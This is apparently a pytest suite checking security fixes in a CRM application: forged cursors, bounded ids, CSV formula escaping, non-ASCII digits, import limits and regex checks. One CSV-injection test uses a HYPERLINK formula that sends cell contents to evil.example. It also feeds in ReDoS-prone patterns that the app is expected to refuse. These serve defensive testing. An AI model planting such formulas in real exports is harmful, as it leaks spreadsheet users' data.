"""Security-review fixes: forged cursors, bounded ids, CSV formulas, ASCII digits,
restrict-delete messages, import mappings and jobs, names, patterns, released references."""

from __future__ import annotations

import base64
import csv
import io
import json
import logging
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from bastion.data.errors import BadQuery
from bastion.data.models import ImportJob, ImportMapping, SearchOutbox
from bastion.db import db
from bastion.web.imports import wait_for_imports
from tests.conftest import csrf_token
from tests.core.data.conftest import ADMIN, MARIA, SAM, bearer, client_as, service_as, user_id
from tests.core.data.ui_support import create, post, stored

PROBLEM = "application/problem+json"


@pytest.fixture
def api(demo_app):
    return demo_app.test_client()


@pytest.fixture
def admin(demo_app):
    return bearer(demo_app, ADMIN)


def _problem(response, status: int) -> dict:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == PROBLEM
    return response.get_json()


def _count(app, object_name: str) -> int:
    with service_as(app, None) as records:
        return records.count(object_name)


def _audit(caplog, action: str) -> list[logging.LogRecord]:
    return [r for r in caplog.records if getattr(r, "action", None) == action]


# --------------------------------------------------------------------------- 1. cursors


def _cursor(signature: str, values: object) -> str:
    payload = json.dumps([signature, values], separators=(",", ":"))
    return base64.urlsafe_b64encode(payload.encode()).decode().rstrip("=")


FORGED = [
    ("annual_revenue", [{"D": "1e300000"}, 1]),
    ("annual_revenue", [{"D": "-1e300000"}, 1]),
    ("annual_revenue", [{"D": "1e-999999999"}, 1]),
    ("annual_revenue", [{"D": "1e999999999999999999"}, 1]),
    ("annual_revenue", [{"D": "abc"}, 1]),
    ("annual_revenue", [{"D": "NaN"}, 1]),
    ("annual_revenue", [{"D": "Infinity"}, 1]),
    ("annual_revenue", [{"D": "1.001"}, 1]),  # beyond the field's scale
    ("annual_revenue", [{"D": "1" * 40}, 1]),
    ("annual_revenue", [12, 1]),
    ("annual_revenue", [{"D": "5"}, "abc"]),
    ("employees", [10**30, 1]),
    ("employees", [2**63, 1]),
    ("employees", ["abc", 1]),
    ("employees", [1.5, 1]),
    ("employees", [True, 1]),
    ("employees", [[[[1]]], 1]),
    ("employees", [{"x": 1}, 1]),
    ("name", [5, 1]),
    ("name", ["a\u0000b", 1]),
    ("name", ["\ud800", 1]),
    ("created_at", [{"T": "yesterday"}, 1]),
    ("created_at", [{"d": "2026-01-01"}, 1]),
    ("created_at", [{"T": "0001-01-01T00:00:00+05:00"}, 1]),
    ("created_at", [{"T": "2026-01-01T00:00:00"}, 1]),  # no zone: not one of ours
    ("-id", [[1]]),
    ("-id", ["1"]),
    ("-id", [1, 2]),
    ("-id", {"a": 1}),
]


@pytest.mark.parametrize(("sort", "values"), FORGED)
def test_forged_cursors_are_refused(demo_app, api, admin, sort, values):
    with service_as(demo_app, ADMIN) as records:
        records.create("accounts", {"name": "Acme", "annual_revenue": "100", "employees": 5})
    key = sort.lstrip("-")
    # Sorting by anything but the id ends in the id as a tie-breaker.
    signature = f"accounts:{sort}"
    cursor = _cursor(signature, values)
    response = api.get(f"/api/v1/accounts?sort={sort}&cursor={cursor}", headers=admin)
    body = _problem(response, 400)
    assert body["field"] == "cursor" and "first page" in body["detail"], (key, body)


def test_oversized_and_deeply_nested_cursors_are_refused(demo_app, api, admin):
    deep = base64.urlsafe_b64encode(b'["accounts:-id",' + b"[" * 1500).decode()
    for cursor in (deep, "A" * 5000, _cursor("accounts:name", ["x" * 3000, 1])):
        response = api.get(f"/api/v1/accounts?sort=name&cursor={cursor}", headers=admin)
        assert _problem(response, 400)["field"] == "cursor"
    with service_as(demo_app, ADMIN) as records, pytest.raises(BadQuery):
        records.query("accounts", sort="-id", cursor=deep)


def test_genuine_cursors_still_walk_the_list(demo_app, api, admin):
    with service_as(demo_app, ADMIN) as records:
        for index in range(5):
            records.create(
                "accounts",
                {"name": f"Co {index}", "annual_revenue": f"{index}.50", "employees": index},
            )
    for sort in ("annual_revenue", "-annual_revenue", "-created_at", "name", "employees"):
        seen, cursor = [], None
        for _ in range(10):
            url = f"/api/v1/accounts?limit=2&sort={sort}" + (f"&cursor={cursor}" if cursor else "")
            body = api.get(url, headers=admin).get_json()
            seen += [row["id"] for row in body["data"]]
            cursor = body["next"]
            if cursor is None:
                break
        assert len(seen) == 5 == len(set(seen)), sort
    # A hand-made cursor with a plausible value is fine too.
    cursor = _cursor("accounts:annual_revenue", [{"D": "2.5"}, 0])
    body = api.get(f"/api/v1/accounts?sort=annual_revenue&cursor={cursor}", headers=admin)
    assert body.status_code == 200
    assert [r["annual_revenue"]["amount"] for r in body.get_json()["data"]] == [
        "2.50",
        "3.50",
        "4.50",
    ]


# --------------------------------------------------------------------------- 2. many ids


def test_bulk_stops_reading_ids_beyond_the_limit(demo_app, monkeypatch):
    from bastion.web import records_list

    calls = []

    def counting(raw, **kwargs):
        calls.append(raw)
        return records_list_bounded(raw, **kwargs)

    records_list_bounded = records_list.bounded_int
    monkeypatch.setattr(records_list, "bounded_int", counting)
    keep = create(demo_app, ADMIN, "accounts", {"name": "Keep"})
    before = _count(demo_app, "accounts")
    admin = client_as(demo_app, ADMIN)
    ids = [("ids", str(keep))] + [("ids", str(n)) for n in range(1, 5001)]
    response = post(admin, "/o/accounts/bulk", [*ids, ("action", "delete"), ("confirm", "yes")])
    assert response.status_code == 400
    assert "at most 500" in response.get_data(as_text=True)
    assert len(calls) <= records_list.MAX_BULK + 2  # stopped once past the limit
    assert _count(demo_app, "accounts") == before and stored(demo_app, "accounts", keep)


def test_merge_stops_reading_ids_beyond_the_limit(demo_app):
    first = create(demo_app, ADMIN, "accounts", {"name": "One"})
    second = create(demo_app, ADMIN, "accounts", {"name": "Two"})
    admin = client_as(demo_app, ADMIN)
    many = ",".join(str(n) for n in range(1, 20_001))
    # Past the tenth distinct id the rest is not read: not even a bad one at the end.
    for ids in (many + ",nonsense", ",".join(["1"] * 5000 + [str(n) for n in range(2, 12)])):
        response = admin.get(f"/o/accounts/merge?ids={ids}")
        assert response.status_code == 400
        assert "Choose 2 to 10 records" in response.get_data(as_text=True)
    response = post(admin, "/o/accounts/merge", {"ids": many, "winner": str(first)})
    assert response.status_code == 400
    assert stored(demo_app, "accounts", first) and stored(demo_app, "accounts", second)


# --------------------------------------------------------------------------- 3. CSV formulas


def test_export_escapes_formula_fields_and_the_import_reads_them_back(demo_app, cli, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    with service_as(demo_app, ADMIN) as records:
        contact = records.create(
            "contacts", {"first_name": formula, "last_name": "Smith", "title": "'=quoted"}
        )
    admin = client_as(demo_app, ADMIN)
    body = admin.get("/o/contacts/export.csv").get_data(as_text=True).lstrip("\ufeff")
    (row,) = [r for r in csv.DictReader(io.StringIO(body)) if int(r["id"]) == contact.id]
    assert row["first_name"] == "'" + formula
    assert row["full_name"].startswith("'=HYPERLINK")  # a formula field computing text
    assert row["title"] == "''=quoted"  # so the importer's unescaping gives it back whole
    assert row["last_name"] == "Smith"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["first_name", "last_name", "title"])
    writer.writerow([row["first_name"], "Copy", row["title"]])
    path = tmp_path / "contacts.csv"
    path.write_text(buffer.getvalue())
    result = cli("import", "contacts", str(path))
    assert result.exit_code == 0, result.output
    with service_as(demo_app, ADMIN) as records:
        (copy,) = [r for r in records.iterate("contacts") if r["last_name"] == "Copy"]
        assert copy["first_name"] == formula and copy["title"] == "'=quoted"


def test_plain_numbers_are_not_escaped(demo_app):
    from bastion.data.exporter import csv_cell, formula_like
    from bastion.data.values import Money

    with service_as(demo_app, ADMIN) as records:
        meta = records.object("accounts")
    assert csv_cell(meta.fields["employees"], -5) == "-5"
    assert csv_cell(meta.fields["phone"], "+442079460958") == "+442079460958"
    money = Money(Decimal("-12.50"), "EUR")
    assert csv_cell(meta.fields["annual_revenue"], money) == "'-12.50 EUR"
    assert formula_like("@SUM(A1)") and formula_like("\t=1") and not formula_like("'abc")


# --------------------------------------------------------------------------- 4. ASCII digits


@pytest.mark.parametrize("number", ["²", "١٢", "99999999999999999999999"])
def test_numbers_in_addresses_are_ascii_and_bounded(demo_app, api, admin, number):
    account = create(demo_app, ADMIN, "accounts", {"name": "Acme"})
    _problem(api.get(f"/api/v1/accounts?limit={number}", headers=admin), 400)
    deleted = api.delete(f"/api/v1/accounts/{account}?version={number}", headers=admin)
    assert _problem(deleted, 400)["field"] == "version"
    assert stored(demo_app, "accounts", account)
    browser = client_as(demo_app, ADMIN)
    merge = browser.get(f"/o/accounts/merge?ids={account},{number}")
    assert merge.status_code == 400
    # A new form pre-filled from the address ignores a bad id rather than failing.
    for url in (
        f"/o/contacts/new?account={number}",
        f"/o/activities/new?related_to=accounts:{number}",
        f"/o/activities/new?related_to=nothing:{number}",
    ):
        assert browser.get(url).status_code == 200, url


@pytest.mark.parametrize("number", ["²", "١٢", "99999999999999999999999"])
def test_record_ids_and_integers_in_values_are_ascii(demo_app, api, admin, number):
    before = _count(demo_app, "contacts")
    linked = api.post("/api/v1/contacts", headers=admin, json={"last_name": "X", "account": number})
    assert _problem(linked, 422)["field"] == "account"
    counted = api.post("/api/v1/accounts", headers=admin, json={"name": "Y", "employees": number})
    assert _problem(counted, 422)["field"] == "employees"
    assert _count(demo_app, "contacts") == before


def test_merge_choice_with_a_non_ascii_digit_is_not_a_record(demo_app):
    first = create(demo_app, ADMIN, "accounts", {"name": "One", "city": "Paris"})
    second = create(demo_app, ADMIN, "accounts", {"name": "Two", "city": "Rome"})
    admin = client_as(demo_app, ADMIN)
    form = [
        ("ids", f"{first},{second}"),
        ("winner", str(first)),
        ("version_" + str(first), "1"),
        ("version_" + str(second), "1"),
        ("choice_city", "²"),
    ]
    response = post(admin, "/o/accounts/merge", form)
    assert response.status_code == 422, response.get_data(as_text=True)[:300]
    assert "Choose which value of City to keep" in response.get_data(as_text=True)
    assert stored(demo_app, "accounts", first)["city"] == "Paris"
    assert stored(demo_app, "accounts", second)


# --------------------------------------------------------------------------- 5. restrict


def test_restrict_message_counts_only_what_the_user_can_see(demo_app):
    sams = create(demo_app, SAM, "accounts", {"name": "Sam's account"})
    for name in ("Hidden 1", "Hidden 2"):  # the administrator's, out of Maria's scope
        create(demo_app, ADMIN, "contacts", {"last_name": name, "account": sams})
    maria = bearer(demo_app, MARIA)
    api = demo_app.test_client()
    with service_as(demo_app, MARIA) as records:
        assert records.count("contacts") == 0
    body = _problem(api.delete(f"/api/v1/accounts/{sams}", headers=maria), 409)
    assert "2" not in body["detail"] and "cannot see" in body["detail"]
    create(demo_app, SAM, "contacts", {"last_name": "Visible", "account": sams})
    body = _problem(api.delete(f"/api/v1/accounts/{sams}", headers=maria), 409)
    assert body["detail"].startswith("1 contacts refer to this account")
    assert "cannot see" in body["detail"] and "3" not in body["detail"]
    admin = _problem(api.delete(f"/api/v1/accounts/{sams}", headers=bearer(demo_app, ADMIN)), 409)
    assert admin["detail"].startswith("3 contacts refer to this account")
    assert "cannot see" not in admin["detail"]
    assert stored(demo_app, "accounts", sams)


# --------------------------------------------------------------------------- 6. mappings


def test_a_mapping_saved_by_someone_else_is_not_overwritten(demo_app):
    from bastion.data import importer

    with demo_app.app_context():
        importer.save_mapping(
            "contacts", "Standard", {"Surname": "last_name"}, None, user_id(demo_app, ADMIN)
        )
        db.session.commit()
    maria = client_as(demo_app, MARIA)
    form = {"column-0": "last_name", "column-1": "email", "save_as": " Standard "}
    refused = _start_import(maria, form)
    assert refused.status_code == 422
    assert "choose another name" in refused.get_data(as_text=True)
    with demo_app.app_context():
        row = db.session.scalar(select(ImportMapping).where(ImportMapping.name == "Standard"))
        assert json.loads(row.mapping) == {"Surname": "last_name"}
        assert row.created_by_id == user_id(demo_app, ADMIN)
        assert db.session.scalar(select(ImportJob.status)) == "new"  # nothing started
    # Her own name is fine, and she may replace her own mapping; an administrator of
    # the schema may replace anyone's.
    for client, email in ((maria, MARIA), (maria, MARIA), (client_as(demo_app, ADMIN), ADMIN)):
        saved = _start_import(client, {**form, "save_as": "Maria's", "dry_run": "yes"})
        assert saved.status_code == 302, saved.get_data(as_text=True)[:300]
        with demo_app.app_context():
            row = db.session.scalar(select(ImportMapping).where(ImportMapping.name == "Maria's"))
            assert row.created_by_id == user_id(demo_app, email)
        wait_for_imports()


def _start_import(client, form: dict[str, str]):
    token = csrf_token(client, "/o/contacts/import")
    upload = client.post(
        "/o/contacts/import",
        data={
            "csrf_token": token,
            "file": (io.BytesIO(b"Name,Mail\nAda,a@example.com\n"), "a.csv"),
        },
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302, upload.get_data(as_text=True)[:300]
    return post(client, upload.headers["Location"].replace("/map", "/start"), form)


# --------------------------------------------------------------------------- 7. names


def test_names_with_a_trailing_newline_are_refused(demo_app, api, admin):
    for name in ("tier\n", "tier\r\n", "ti\ner"):
        response = api.post(
            "/api/v1/meta/accounts/fields",
            headers=admin,
            json={"name": name, "label": "Tier", "type": "text"},
        )
        assert response.status_code == 422, (name, response.get_data(as_text=True))
    response = api.post(
        "/api/v1/meta",
        headers=admin,
        json={
            "name": "projects",
            "label": "Project",
            "fields": [{"name": "code\n", "label": "Code", "type": "text"}],
        },
    )
    assert response.status_code == 422
    with service_as(demo_app, ADMIN) as records:
        assert "tier" not in records.object("accounts").fields
    from bastion.plugins.contributions import ContributionError, Permission

    with pytest.raises(ContributionError):
        Permission("crm.read\n", "Read")


# --------------------------------------------------------------------------- 8a. patterns


@pytest.mark.parametrize("pattern", ["(a+)+b", "(\\d*)*", "(?:[a-z]+ ?){2,}x", "a" * 201])
def test_risky_patterns_are_refused(demo_app, api, admin, pattern):
    response = api.post(
        "/api/v1/meta/accounts/fields",
        headers=admin,
        json={"name": "code", "label": "Code", "type": "text", "pattern": pattern},
    )
    body = _problem(response, 422)
    assert body.get("field") == "pattern" and "pattern" in body["detail"].lower(), body


def test_a_pattern_is_applied_to_short_values_only(demo_app, api, admin):
    accepted = api.post(
        "/api/v1/meta/accounts/fields",
        headers=admin,
        json={
            "name": "notes_code",
            "label": "Notes code",
            "type": "long_text",
            "pattern": "[a-z ]+",
        },
    )
    assert accepted.status_code == 201, accepted.get_data(as_text=True)
    created = api.post(
        "/api/v1/accounts", headers=admin, json={"name": "Ok", "notes_code": "a" * 1000}
    )
    assert created.status_code == 201, created.get_data(as_text=True)
    before = _count(demo_app, "accounts")
    body = _problem(
        api.post(
            "/api/v1/accounts", headers=admin, json={"name": "Long", "notes_code": "a" * 1001}
        ),
        422,
    )
    assert "1,000 characters" in json.dumps(body)
    assert _count(demo_app, "accounts") == before


# --------------------------------------------------------------------------- 8b. import jobs


def test_at_most_three_unfinished_imports_per_user(demo_app):
    maria_id = user_id(demo_app, MARIA)
    with demo_app.app_context():
        for status in ("queued", "running", "queued", "done", "failed"):
            db.session.add(ImportJob(user_id=maria_id, object_name="contacts", status=status))
        db.session.add(ImportJob(user_id=user_id(demo_app, ADMIN), object_name="contacts"))
        db.session.commit()
    maria = client_as(demo_app, MARIA)
    token = csrf_token(maria, "/o/contacts/import")
    refused = maria.post(
        "/o/contacts/import",
        data={"csrf_token": token, "file": (io.BytesIO(b"last_name\nAda\n"), "a.csv")},
        content_type="multipart/form-data",
    )
    assert refused.status_code == 429
    assert "3 imports waiting or running" in refused.get_data(as_text=True)
    with demo_app.app_context():
        assert db.session.scalar(select(func.count()).select_from(ImportJob)) == 6
    # Others are not held up by her imports.
    assert _start_import(client_as(demo_app, ADMIN), {"column-0": "last_name"}).status_code == 302
    wait_for_imports()


def test_an_upload_mapped_while_three_imports_wait_is_not_started(demo_app):
    maria = client_as(demo_app, MARIA)
    token = csrf_token(maria, "/o/contacts/import")
    upload = maria.post(
        "/o/contacts/import",
        data={"csrf_token": token, "file": (io.BytesIO(b"last_name\nAda\n"), "a.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302
    with demo_app.app_context():
        for _ in range(3):
            db.session.add(
                ImportJob(user_id=user_id(demo_app, MARIA), object_name="contacts", status="queued")
            )
        db.session.commit()
    started = post(
        maria, upload.headers["Location"].replace("/map", "/start"), {"column-0": "last_name"}
    )
    assert started.status_code == 429
    with demo_app.app_context():
        assert db.session.scalar(select(func.count()).where(ImportJob.status == "new")) == 1
    assert _count(demo_app, "contacts") == 0


# --------------------------------------------------------------------------- 8c. max_length


def test_raising_max_length_widens_the_column(demo_app, api, admin):
    added = api.post(
        "/api/v1/meta/accounts/fields",
        headers=admin,
        json={"name": "motto", "label": "Motto", "type": "text"},
    )
    assert added.status_code == 201, added.get_data(as_text=True)
    changed = api.patch(
        "/api/v1/meta/accounts/fields/motto", headers=admin, json={"max_length": 500}
    )
    assert changed.status_code == 200, changed.get_data(as_text=True)
    motto = "m" * 480
    created = api.post("/api/v1/accounts", headers=admin, json={"name": "Long", "motto": motto})
    assert created.status_code == 201, created.get_data(as_text=True)
    with service_as(demo_app, ADMIN) as records:
        assert records.get("accounts", created.get_json()["id"])["motto"] == motto
    # Lowering it again keeps the column (and the value), and limits new values.
    lowered = api.patch(
        "/api/v1/meta/accounts/fields/motto", headers=admin, json={"max_length": 300}
    )
    assert lowered.status_code == 200
    _problem(api.post("/api/v1/accounts", headers=admin, json={"name": "L", "motto": motto}), 422)
    raised = api.patch(
        "/api/v1/meta/accounts/fields/motto", headers=admin, json={"max_length": 400}
    )
    assert raised.status_code == 200, raised.get_data(as_text=True)
    with service_as(demo_app, ADMIN) as records:
        assert records.get("accounts", created.get_json()["id"])["motto"] == motto


# --------------------------------------------------------------------------- 8d. references


def _outbox(app, object_name: str) -> set[int]:
    with app.app_context():
        return set(
            db.session.scalars(
                select(SearchOutbox.record_id).where(
                    SearchOutbox.object_name == object_name, SearchOutbox.action == "index"
                )
            )
        )


def test_references_cleared_by_a_delete_are_audited_and_reindexed(demo_app, caplog):
    with service_as(demo_app, ADMIN) as records:
        parent = records.create("accounts", {"name": "Parent"}).id
        children = [
            records.create("accounts", {"name": f"Child {i}", "parent": parent}).id
            for i in range(2)
        ]
        call = records.create(
            "activities",
            {"kind": "call", "subject": "Call", "related_to": {"object": "accounts", "id": parent}},
        ).id
    with demo_app.app_context():
        db.session.execute(SearchOutbox.__table__.delete())
        db.session.commit()
    caplog.set_level(logging.INFO, logger="bastion.audit")
    api = demo_app.test_client()
    # A delete refused (a contact restricts it) leaves no entry of what it rolled back.
    blocker = create(demo_app, ADMIN, "contacts", {"last_name": "Blocker", "account": parent})
    refused = api.delete(f"/api/v1/accounts/{parent}", headers=bearer(demo_app, ADMIN))
    assert refused.status_code == 409 and not _audit(caplog, "record.update")
    assert stored(demo_app, "accounts", children[0])["parent"] == parent
    api.delete(f"/api/v1/contacts/{blocker}", headers=bearer(demo_app, ADMIN))
    with demo_app.app_context():
        db.session.execute(SearchOutbox.__table__.delete())
        db.session.commit()
    assert (
        api.delete(f"/api/v1/accounts/{parent}", headers=bearer(demo_app, ADMIN)).status_code == 204
    )
    # One update entry per record whose reference the delete cleared, saying why.
    cause = {"action": "delete", "object": "accounts", "ids": [parent]}
    entries = {
        (e.object_type, int(e.object_id)): e.changes for e in _audit(caplog, "record.update")
    }
    for child in children:
        assert entries[("accounts", child)] == {
            "parent": {"before": parent, "after": None},
            "_cause": cause,
        }
    link = {"object": "accounts", "id": parent}
    assert entries[("activities", call)]["related_to"] == {"before": link, "after": None}
    assert set(children) <= _outbox(demo_app, "accounts")
    assert call in _outbox(demo_app, "activities")


def test_references_moved_by_a_merge_are_audited_and_reindexed(demo_app, caplog):
    with service_as(demo_app, ADMIN) as records:
        keep = records.create("accounts", {"name": "Keep"}).id
        other = records.create("accounts", {"name": "Other"}).id
        ada = records.create("contacts", {"last_name": "Ada", "account": other}).id
    with demo_app.app_context():
        db.session.execute(SearchOutbox.__table__.delete())
        db.session.commit()
    caplog.set_level(logging.INFO, logger="bastion.audit")
    with service_as(demo_app, ADMIN) as records:
        records.merge("accounts", keep, [other], values={}, version=1)
    (entry,) = [e for e in _audit(caplog, "record.update") if e.object_type == "contacts"]
    assert entry.object_id == str(ada)
    assert entry.changes == {
        "account": {"before": other, "after": keep},
        "_cause": {"action": "merge", "object": "accounts", "ids": [other], "into": keep},
    }
    assert ada in _outbox(demo_app, "contacts")


# --------------------------------------------------------------------------- 9. query fixes


def _add_field(api, admin, object_name: str, spec: dict) -> None:
    response = api.post(f"/api/v1/meta/{object_name}/fields", headers=admin, json=spec)
    assert response.status_code == 201, response.get_data(as_text=True)


def _ids(api, admin, object_name: str, query: dict) -> set[int]:
    response = api.get(f"/api/v1/{object_name}", headers=admin, query_string=query)
    assert response.status_code == 200, response.get_data(as_text=True)
    return {row["id"] for row in response.get_json()["data"]}


@pytest.mark.parametrize("sort", ["flag", "-flag", "flag,-name"])
def test_paging_a_list_sorted_by_a_boolean(demo_app, api, admin, sort):
    _add_field(api, admin, "accounts", {"name": "flag", "label": "Flag", "type": "boolean"})
    created = set()
    for index, flag in enumerate([True, False, None, True, False]):
        body = {"name": f"Co {index}", "flag": flag}
        response = api.post("/api/v1/accounts", headers=admin, json=body)
        assert response.status_code == 201, response.get_data(as_text=True)
        created.add(response.get_json()["id"])
    seen, cursor, pages = [], None, 0
    while pages < 10:
        query = {"sort": sort, "limit": 2} | ({"cursor": cursor} if cursor else {})
        response = api.get("/api/v1/accounts", headers=admin, query_string=query)
        assert response.status_code == 200, response.get_data(as_text=True)
        body = response.get_json()
        seen += [row["id"] for row in body["data"]]
        pages += 1
        cursor = body["next"]
        if cursor is None:
            break
    assert pages == 3 and len(seen) == 5 and set(seen) == created


def test_multi_picklist_options_with_like_wildcards(demo_app, api, admin):
    options = ["A_B", "AxB", "50%", "500"]
    spec = {"name": "tags", "label": "Tags", "type": "multi_picklist", "options": options}
    _add_field(api, admin, "accounts", spec)
    ids = {}
    for option in [*options, None]:
        tags = [option] if option else []
        response = api.post(
            "/api/v1/accounts", headers=admin, json={"name": f"Co {option}", "tags": tags}
        )
        assert response.status_code == 201, response.get_data(as_text=True)
        ids[option] = response.get_json()["id"]
    every = set(ids.values())
    assert _ids(api, admin, "accounts", {"tags": "A_B"}) == {ids["A_B"]}
    assert _ids(api, admin, "accounts", {"tags": "50%"}) == {ids["50%"]}
    assert _ids(api, admin, "accounts", {"tags__in": "A_B,50%"}) == {ids["A_B"], ids["50%"]}
    assert _ids(api, admin, "accounts", {"tags__ne": "A_B"}) == every - {ids["A_B"]}
    assert _ids(api, admin, "accounts", {"tags__ne": "50%"}) == every - {ids["50%"]}


def test_ne_on_a_record_link_keeps_empty_links(demo_app, api, admin):
    with service_as(demo_app, ADMIN) as records:
        first = records.create("accounts", {"name": "First"}).id
        second = records.create("accounts", {"name": "Second"}).id
        linked = {
            target: records.create(
                "activities",
                {"subject": f"About {target}", "related_to": {"object": "accounts", "id": target}},
            ).id
            for target in (first, second)
        }
        unlinked = records.create("activities", {"subject": "About nothing"}).id
    found = _ids(api, admin, "activities", {"related_to__ne": f"accounts:{first}"})
    assert found == {linked[second], unlinked}
    found = _ids(api, admin, "activities", {"related_to": f"accounts:{first}"})
    assert found == {linked[first]}


# --------------------------------------------------------------------------- 10. definitions


def test_a_purged_field_name_cannot_be_reused(demo_app, api, admin):
    from bastion.data import definitions

    spec = {"name": "nickname", "label": "Nickname", "type": "text"}
    _add_field(api, admin, "accounts", spec)
    with demo_app.app_context():
        definitions.remove_field("accounts", "nickname")
        removed = api.post("/api/v1/meta/accounts/fields", headers=admin, json=spec)
        assert "restore or purge it first" in _problem(removed, 422)["detail"]
        definitions.purge_field("accounts", "nickname")
    again = _problem(api.post("/api/v1/meta/accounts/fields", headers=admin, json=spec), 422)
    assert "was purged" in again["detail"] and "choose another name" in again["detail"]
    assert "restore" not in again["detail"]


def test_a_unique_violation_found_by_the_database_names_the_right_field(demo_app, monkeypatch):
    from bastion.data.errors import ValidationFailed
    from bastion.data.records import RecordService

    api, admin = demo_app.test_client(), bearer(demo_app, ADMIN)
    for name in ("code", "code_2"):
        spec = {"name": name, "label": name.title(), "type": "text", "unique": True}
        _add_field(api, admin, "accounts", spec)
    # Let the duplicate reach the database, as a concurrent write would.
    monkeypatch.setattr(RecordService, "_check_unique", lambda *args, **kwargs: None)
    with service_as(demo_app, ADMIN) as records:
        records.create("accounts", {"name": "One", "code": "X", "code_2": "Y"})
    for values, field in (({"code": "Z", "code_2": "Y"}, "code_2"), ({"code": "X"}, "code")):
        with service_as(demo_app, ADMIN) as records, pytest.raises(ValidationFailed) as caught:
            records.create("accounts", {"name": "Two", **values})
        assert set(caught.value.errors) == {field}, caught.value.errors
    assert _count(demo_app, "accounts") == 1


def test_formulas_reading_later_formulas_and_cycles(demo_app, api, admin):
    number = {"type": "formula", "formula_type": "integer"}
    _add_field(
        api, admin, "accounts", {"name": "f1", "label": "F1", "formula": "employees * 2"} | number
    )
    _add_field(
        api, admin, "accounts", {"name": "f2", "label": "F2", "formula": "employees + 1"} | number
    )
    changed = api.patch(
        "/api/v1/meta/accounts/fields/f1", headers=admin, json={"formula": "f2 * 2"}
    )
    assert changed.status_code == 200, changed.get_data(as_text=True)
    created = api.post("/api/v1/accounts", headers=admin, json={"name": "Co", "employees": 5})
    assert created.status_code == 201, created.get_data(as_text=True)
    body = api.get(f"/api/v1/accounts/{created.get_json()['id']}", headers=admin).get_json()
    assert (body["f2"], body["f1"]) == (6, 12)
    # A formula may not read itself, directly or through another formula.
    for field, formula in (("f2", "f1 + 1"), ("f1", "f1 + 1")):
        refused = api.patch(
            f"/api/v1/meta/accounts/fields/{field}", headers=admin, json={"formula": formula}
        )
        problem = _problem(refused, 422)
        assert problem["field"] == "formula" and "its own value" in problem["detail"]
    cyclic = {"name": "f3", "label": "F3", "formula": "f4 + 1"} | number
    both = {
        "name": "gadgets",
        "label": "Gadget",
        "label_plural": "Gadgets",
        "name_field": "title",
        "fields": [
            {"name": "title", "label": "Title", "type": "text"},
            cyclic,
            {"name": "f4", "label": "F4", "formula": "f3 + 1"} | number,
        ],
    }
    problem = _problem(api.post("/api/v1/meta", headers=admin, json=both), 422)
    assert "its own value" in problem["detail"]
    assert api.get("/api/v1/meta/gadgets", headers=admin).status_code == 404
